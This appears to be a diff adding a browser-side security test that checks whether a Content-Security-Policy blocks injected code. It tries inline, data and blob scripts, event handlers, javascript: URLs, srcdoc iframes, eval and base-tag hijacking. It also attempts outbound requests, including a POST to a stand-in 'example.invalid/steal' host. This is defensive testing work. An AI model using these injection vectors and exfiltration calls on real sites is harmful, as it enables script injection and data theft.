@@ -1,0 +1,36 @@
+// Ways in which injected code might run, and ways in which it might speak to others.
+import { invoke } from "@millennium/api";
+const violations = [];
+document.addEventListener("securitypolicyviolation", (event) => violations.push(event.effectiveDirective));
+const ran = {};
+globalThis.mark = (name) => { ran[name] = true; };
+const attempt = (name, f) => { try { f(); } catch (error) { ran[name + " failed with"] = error.name; } };
+const add = (tag, change) => {
+  const made = document.createElement(tag);
+  change(made);
+  document.body.append(made);
+  return made;
+};
+add("script", (made) => { made.textContent = "mark('inline script')"; });
+add("script", (made) => { made.textContent = "mark('nonced script')"; made.nonce = "AAAA"; });
+add("script", (made) => { made.src = "data:text/javascript,mark('data script')"; });
+add("script", (made) => { made.src = URL.createObjectURL(new Blob(["mark('blob script')"])); });
+add("div", (made) => { made.innerHTML = "<img src='data:,' onerror=\"mark('event handler')\">"; });
+add("a", (made) => { made.href = "javascript:mark('javascript link')"; }).click();
+add("iframe", (made) => { made.srcdoc = "<script>parent.mark('srcdoc script')<\/script>"; });
+add("iframe", (made) => { made.src = "javascript:parent.mark('javascript frame')"; });
+attempt("eval", () => (0, eval)("mark('eval')"));
+attempt("Function", () => new Function("mark('Function')")());
+attempt("string timer", () => setTimeout("mark('string timer')", 0));
+const base = add("base", (made) => { made.href = "https://example.invalid/"; });
+ran["base moved"] = document.baseURI.includes("example.invalid");
+base.remove();
+const connect = async (name, f) => { const before = violations.length; await f().catch(() => {}); await new Promise((done) => setTimeout(done, 50)); ran[name + " tried"] = violations.length === before; };
+await connect("foreign fetch", () => fetch("https://example.invalid/steal", { method: "POST", body: "x" }));
+await connect("foreign image", () => new Promise((done) => { const image = new Image(); image.onload = image.onerror = done; image.src = "https://example.invalid/x.png"; }));
+await connect("foreign socket", async () => { new WebSocket("wss://example.invalid/"); });
+await connect("beacon", async () => navigator.sendBeacon("https://example.invalid/", "x"));
+await connect("own fetch", () => fetch("/probe.js"));
+await new Promise((done) => setTimeout(done, 300));
+const sound = { authored: globalThis.authored === true, imported: await invoke("echo", { value: "by import map" }) };
+await invoke("report", { result: { ran, sound, violations: [...new Set(violations)].sort() } });
